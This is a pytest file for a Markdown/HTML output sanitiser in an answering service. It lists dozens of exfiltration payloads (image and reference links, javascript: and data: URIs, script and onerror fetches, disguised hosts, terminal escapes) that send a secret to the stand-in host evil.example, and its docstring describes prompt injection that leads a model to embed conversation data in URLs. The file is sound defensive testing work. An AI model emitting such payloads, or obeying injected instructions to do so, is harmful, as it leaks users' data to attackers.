"""The output sanitiser against the Markdown/HTML exfiltration forms.

OWASP LLM01:2025 scenario 2 (hidden instructions make the model insert an image whose URL
carries the conversation), LLM05:2025 example 2 and scenarios 2 and 4 (Markdown/JavaScript in
the output, data sent to an attacker's server), LLM10:2026 examples 6 and 7 (terminal escape
sequences; auto-rendered images and link previews leaking data in the hostname or the query),
and EchoLeak (CVE-2025-32711, reference-style Markdown past a redaction). Every form is checked
twice: the Markdown that comes out must not contain the attacker's host or the secret, and
parsed again it must hold no image, no HTML and no link but citations and allowed hosts.
"""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.tree import SyntaxTreeNode

from wissenswerk.answering.sanitize import is_allowed_url, render_safe_html, sanitize_markdown

ALLOWED = ("wiki.firma.de",)
EVIL = "evil.example"
SECRET = "GEHEIM42"
URL = f"http://{EVIL}/log?q={SECRET}"

# (id, answer text); each must lose every trace of EVIL and SECRET.
ATTACKS = [
    # inline images and links (LLM01 scenario 2, LLM05 scenario 2)
    ("inline-image", f"Antwort [1]. ![Logo]({URL})"),
    ("inline-image-title", f'![a]({URL} "Titel")'),
    ("inline-image-empty-alt", f"![]({URL})"),
    ("inline-link", f"[Hier klicken]({URL})"),
    ("link-title", f"[Hier]({URL} 'Tooltip {SECRET}')"),
    ("angle-destination", f"![a](<{URL}>)"),
    ("angle-destination-space", f"[a](<http://{EVIL}/a b?q={SECRET}>)"),
    ("whitespace-in-destination", f"![a](   {URL}   )"),
    ("newline-in-destination", f"![a](\n{URL}\n)"),
    ("space-between-brackets", f"![a] ({URL})"),
    ("newline-between-brackets", f"[a]\n({URL})"),
    ("image-in-link", f"[![a]({URL})](http://{EVIL}/)"),
    ("nested-brackets", f"[a [b] c]({URL})"),
    ("escaped-bang", f"\\![a]({URL})"),
    ("escaped-brackets", f"!\\[a\\]({URL})"),
    ("entity-brackets", f"!&#91;a&#93;({URL})"),
    ("entity-in-destination", f"![a](&#104;ttp://{EVIL}/?q={SECRET})"),
    ("emphasis-around-link", f"*[a]({URL})* **![b]({URL})** ~~[c]({URL})~~"),
    # reference-style (EchoLeak)
    ("reference-full", f"[a][ref]\n\n[ref]: {URL}"),
    ("reference-collapsed", f"[ref][]\n\n[ref]: {URL}"),
    ("reference-shortcut", f"[ref]\n\n[ref]: {URL}"),
    ("reference-image", f"![a][ref]\n\n[ref]: {URL}"),
    ("reference-image-shortcut", f"![ref]\n\n[REF]: <{URL}> 'Titel'"),
    ("reference-only-definition", f"Text.\n\n[x]: {URL}"),
    ("reference-defined-first", f"[ref]: {URL}\n\n![Bild][ref]"),
    ("reference-in-list", f"- ![a][r]\n\n[r]: {URL}"),
    # autolinks and bare URLs (GFM autolink literals, linkify)
    ("autolink", f"<{URL}>"),
    ("autolink-email", f"<{SECRET}@{EVIL}>"),
    ("bare-url", f"Siehe {URL}."),
    ("bare-www", f"Siehe www.{EVIL}/?q={SECRET}"),
    ("bare-protocol-relative", f"Siehe //{EVIL}/?q={SECRET}"),
    ("bare-domain-path", f"Siehe {EVIL}/?q={SECRET}"),
    ("bare-mailto", f"mailto:x@{EVIL}?body={SECRET}"),
    ("bare-url-split-by-html", f"www<b></b>.{EVIL}/?q={SECRET}"),
    ("bare-url-in-parentheses", f"(siehe {URL})"),
    ("protocol-relative-link", f"![a](//{EVIL}/?q={SECRET})"),
    ("uppercase-scheme", f"![a](HTTP://{EVIL.upper()}/?q={SECRET})"),
    # script and data URIs (LLM05 scenario 4)
    ("javascript-link", f"[a](javascript:fetch('//{EVIL}/?q={SECRET}'))"),
    ("javascript-entity", f"[a](&#106;avascript:alert('{SECRET}@{EVIL}'))"),
    ("vbscript-link", f"[a](vbscript:msgbox('{SECRET}{EVIL}'))"),
    ("data-image", f"![a](data:image/png;base64,{SECRET}{EVIL})"),
    ("data-html-link", f"[a](data:text/html,<script>fetch('//{EVIL}/{SECRET}')</script>)"),
    # raw HTML
    ("html-img", f'<img src="{URL}">'),
    ("html-img-unquoted", f"Text <img src={URL} alt=x> Text"),
    ("html-img-onerror", f"<img src=x onerror=\"fetch('//{EVIL}/?q={SECRET}')\">"),
    ("html-a", f'<a href="{URL}">klick</a>'),
    ("html-iframe", f'<iframe src="{URL}"></iframe>'),
    ("html-script", f"<script>new Image().src='//{EVIL}/?q={SECRET}'</script>"),
    ("html-style-url", f"<style>body{{background:url({URL})}}</style>"),
    ("html-inline-css-url", f"Text <span style=\"background-image:url('{URL}')\">x</span>"),
    ("html-svg", f'<svg onload="fetch(`//{EVIL}/{SECRET}`)"></svg>'),
    ("html-link-preload", f'<link rel="prefetch" href="{URL}">'),
    ("html-meta-refresh", f'<meta http-equiv="refresh" content="0;url={URL}">'),
    ("html-object", f'<object data="{URL}"></object>'),
    ("html-comment", f"<!-- ![a]({URL}) -->"),
    ("css-url-as-text", f"background: url({URL})"),
    # hosts disguised (URL-encoded, Unicode, user info, backslash)
    ("percent-encoded-host", f"![a](http://%65vil.example/?q={SECRET})"),
    ("fullwidth-host", f"![a](http://ｅｖｉｌ.example/?q={SECRET})"),
    ("ideographic-dot-host", f"![a](http://evil。example/?q={SECRET})"),
    ("userinfo-allowed-host", f"![a](https://wiki.firma.de@{EVIL}/?q={SECRET})"),
    ("backslash-allowed-host", f"[a](https://{EVIL}\\@wiki.firma.de/?q={SECRET})"),
    ("allowed-host-as-prefix", f"[a](https://wiki.firma.de.{EVIL}/?q={SECRET})"),
    ("allowed-host-in-query", f"![a](https://{EVIL}/?next=wiki.firma.de&q={SECRET})"),
    ("image-on-allowed-host", f"![a](https://wiki.firma.de/pixel.png?q={SECRET}{EVIL})"),
    # citations lists with links (the answer's "Quellen" block)
    ("citation-list-links", f"Quellen:\n\n1. [Handbuch]({URL})\n2. <{URL}>\n3. ![x]({URL})"),
    ("citation-number-link", f"Wie belegt [1]({URL})."),
    ("citation-marker-then-parens", f"Wie belegt [1](//{EVIL}/?q={SECRET})."),
    ("citation-marker-split-by-html", f"Belegt [1]<span></span>(//{EVIL}/?q={SECRET})"),
    # terminals and invisible characters (LLM10:2026 example 6)
    ("ansi-osc8-hyperlink", f"\x1b]8;;{URL}\x1b\\klick\x1b]8;;\x1b\\"),
    ("ansi-colour", f"\x1b[31mrot\x1b[0m {URL}"),
    ("zero-width-split-url", f"![a](http://{EVIL}/?q={SECRET})\u200b"),
    ("tag-characters", "".join(chr(0xE0000 + ord(c)) for c in f"{EVIL} {SECRET}")),
    ("table-cell", f"| a | b |\n|---|---|\n| ![x]({URL}) | [y]({URL}) |"),
    ("blockquote", f"> ![x]({URL})\n> [y][r]\n\n[r]: {URL}"),
    ("heading", f"# ![x]({URL})\n\nSetext [y]({URL})\n---"),
]


def _tree(markdown: str) -> tuple[SyntaxTreeNode, dict[str, object]]:
    env: dict[str, object] = {}
    parser = MarkdownIt("commonmark").enable(["table", "strikethrough"])
    return SyntaxTreeNode(parser.parse(markdown, env)), env


def _nodes(node: SyntaxTreeNode) -> list[SyntaxTreeNode]:
    return [node, *(n for child in node.children for n in _nodes(child))]


def _assert_safe_markdown(markdown: str) -> None:
    """No image, HTML or definition; links only to the allowed host."""
    root, env = _tree(markdown)
    assert not env.get("references")
    for node in _nodes(root):
        assert node.type not in ("image", "html_inline", "html_block"), markdown
        if node.type == "link":
            assert is_allowed_url(str(node.attrs["href"]), ALLOWED), markdown


_TAG = re.compile(r"<(/?)([a-zA-Z0-9]+)([^>]*)>")
_ALLOWED_TAGS = {"p", "ul", "ol", "li", "strong", "em", "code", "pre", "br", "a"}


def _assert_safe_html(output: str) -> None:
    for match in _TAG.finditer(output):
        closing, tag, attributes = match.groups()
        assert tag in _ALLOWED_TAGS, output
        if tag == "a" and not closing:
            href = re.fullmatch(r' href="([^"]*)"(?: class="citation"| rel="[^"]*")', attributes)
            assert href, output
            assert href.group(1).startswith("#cite-") or is_allowed_url(href.group(1), ALLOWED)
        elif tag == "ol" and not closing:
            assert re.fullmatch(r'(?: start="\d+")?', attributes), output
        else:
            assert attributes == "", output


@pytest.mark.parametrize(("text"), [text for _, text in ATTACKS], ids=[i for i, _ in ATTACKS])
def test_every_exfiltration_form_is_removed(text):
    result = sanitize_markdown(text, ALLOWED, citation_count=3)

    assert EVIL not in result.text.lower().replace("\\", "")
    assert SECRET not in result.text
    _assert_safe_markdown(result.text)
    assert result.removed  # what was taken out is reported

    html = render_safe_html(text, ALLOWED, citation_count=3)
    assert EVIL not in html.lower()
    assert SECRET not in html
    _assert_safe_html(html)


def test_fullwidth_and_encoded_hosts_are_reported_as_removed():
    result = sanitize_markdown(f"![a](http://%65vil.example/?q={SECRET})", ALLOWED)
    assert result.removed == [f"image: http://%65vil.example/?q={SECRET}"]
    assert result.text == "\\[Bild entfernt\\]"


def test_link_text_stays_when_the_link_goes():
    result = sanitize_markdown(f"Bitte [das Formular]({URL}) ausfüllen [1].", ALLOWED, 1)
    assert result.text == "Bitte das Formular ausfüllen [1]."
    assert result.removed == [f"link: {URL}"]


def test_placeholders_follow_the_language():
    assert sanitize_markdown(f"![x]({URL}) <{URL}>", language="en").text == (
        "\\[image removed\\] \\[link removed\\]"
    )
    assert sanitize_markdown(f"![x]({URL}) <{URL}>").text == (
        "\\[Bild entfernt\\] \\[Link entfernt\\]"
    )


def test_links_to_allowed_hosts_stay():
    text = (
        "Siehe [Wiki](https://wiki.firma.de/Urlaub?x=1), <https://wiki.firma.de/a> und "
        "https://wiki.firma.de/b."
    )
    result = sanitize_markdown(text, ALLOWED)
    assert result.text == text
    assert result.removed == []
    html = render_safe_html(text, ALLOWED)
    assert html == (
        '<p>Siehe <a href="https://wiki.firma.de/Urlaub?x=1" rel="noopener noreferrer nofollow">'
        'Wiki</a>, <a href="https://wiki.firma.de/a" rel="noopener noreferrer nofollow">'
        "https://wiki.firma.de/a</a> und "
        '<a href="https://wiki.firma.de/b" rel="noopener noreferrer nofollow">'
        "https://wiki.firma.de/b</a>.</p>\n"
    )


@pytest.mark.parametrize(
    ("url", "hosts", "allowed"),
    [
        ("https://wiki.firma.de/x", ["wiki.firma.de"], True),
        ("HTTPS://WIKI.FIRMA.DE./x", ["wiki.firma.de"], True),
        ("https://wiki.firma.de:8443/x", ["https://wiki.firma.de/"], True),
        ("https://team.wiki.firma.de/x", ["*.firma.de"], True),
        ("https://firma.de/x", [".firma.de"], True),
        ("https://team.wiki.firma.de/x", ["wiki.firma.de"], False),
        ("ftp://wiki.firma.de/x", ["wiki.firma.de"], False),
        ("//wiki.firma.de/x", ["wiki.firma.de"], False),
        ("/relative/path", ["wiki.firma.de"], False),
        ("https://user@wiki.firma.de/x", ["wiki.firma.de"], False),
        ("https://wiki.firma.de\\@evil.example/", ["wiki.firma.de"], False),
        ("https://wiki.firma.de%2eevil.example/", ["wiki.firma.de"], False),
        ("https://wiki.firma.de:99999/", ["wiki.firma.de"], False),
        ("https://wiki.firma.de/x", [], False),
    ],
)
def test_allowed_urls(url, hosts, allowed):
    assert is_allowed_url(url, hosts) is allowed


def test_citation_markers_stay_and_invented_ones_are_inert():
    result = sanitize_markdown("A [1]. B [2, 3]. C [4]. D [0].", citation_count=3)
    assert result.text == "A [1]. B [2, 3]. C \\[4\\]. D \\[0\\]."
    html = render_safe_html("A [1]. B [2, 3]. C [4].", citation_count=3)
    assert html == (
        '<p>A [<a href="#cite-1" class="citation">1</a>]. B [<a href="#cite-2" class="citation">'
        '2</a>, <a href="#cite-3" class="citation">3</a>]. C [4].</p>\n'
    )


def test_citation_links_become_markers():
    result = sanitize_markdown("Belegt [1](#cite-1) und [[2]](https://evil.example/).", (), 2)
    assert result.text == "Belegt [1] und [2]."
    assert result.removed == ["link: https://evil.example/"]


def test_code_is_kept_as_literal_text_not_as_link():
    text = f'Beispiel: `![x]({URL})`\n\n```html\n<img src="{URL}">\n```'
    result = sanitize_markdown(text, ALLOWED)
    assert result.text == text
    _assert_safe_markdown(result.text)
    html = render_safe_html(text, ALLOWED)
    assert "<img" not in html and "<a " not in html
    assert f"<code>![x]({URL})</code>" in html
    assert f"<pre><code>&lt;img src=&quot;{URL}&quot;&gt;\n</code></pre>" in html


def test_structure_survives():
    text = (
        "# Urlaub\n\nDer **Antrag** geht an *HR* [1].\n\n- eins\n- zwei\n  - drei\n\n"
        "3. drei\n4. vier\n\n> Zitat\n\n| Typ | Tage |\n| --- | ---: |\n| Urlaub | 30 |"
    )
    result = sanitize_markdown(text, citation_count=1)
    assert result.text == text.replace("| --- | ---: |", "| --- | ---: |")
    assert result.removed == []
    html = render_safe_html(text, citation_count=1)
    assert html.startswith("<p><strong>Urlaub</strong></p>\n<p>Der <strong>Antrag</strong>")
    assert '<ol start="3">' in html and "<ul>\n<li>eins</li>" in html
    _assert_safe_html(html)


def test_text_is_escaped_in_html():
    html = render_safe_html('5 < 6 & "a" > b \\<script\\>')
    assert html == "<p>5 &lt; 6 &amp; &quot;a&quot; &gt; b &lt;script&gt;</p>\n"


def test_html_keeps_the_visible_text_of_removed_markup():
    result = sanitize_markdown('<div style="display:none">Text <script>x()</script>drin</div>')
    assert result.text == "Text drin"
    assert result.removed[0].startswith("html: <div")


def test_sanitising_twice_changes_nothing():
    for _, text in ATTACKS:
        once = sanitize_markdown(text, ALLOWED, 3).text
        assert sanitize_markdown(once, ALLOWED, 3).text == once


_PIECES = st.sampled_from(
    [
        "![", "[", "]", "(", ")", "<", ">", "!", "\\", "`", "*", "_", "\n", " ", ":", "//",
        "http://", "https://", "evil.example", "wiki.firma.de", "www.", "/x?q=", "javascript:",
        "data:", "[1]", "[ref]: ", "&#91;", "&#93;", "<img src=", "<a href=", '"', "'", "#",
        "- ", "1. ", "> ", "|", "---", "```", "\u200b", "\x1b]8;;", "mailto:", "a", "Text",
    ]
)  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(st.lists(_PIECES, max_size=40).map("".join))
def test_no_input_yields_an_unsafe_answer(text):
    result = sanitize_markdown(text, ALLOWED, citation_count=2)
    _assert_safe_markdown(result.text)
    # Renderers autolink URLs in text, never in code: text nodes carry no foreign URL. A "//"
    # right after ":" without a scheme ("://evil.example") is no link (GFM, linkify-it).
    texts = [node.content for node in _nodes(_tree(result.text)[0]) if node.type == "text"]
    url = r"(?i)(?:[a-z][a-z0-9+.\-]*://|(?<![:/])//|www\.)([\w.\-]*)"
    for host in re.findall(url, "\n".join(texts)):
        assert "evil" not in host.lower(), result.text
    _assert_safe_html(render_safe_html(text, ALLOWED, citation_count=2))
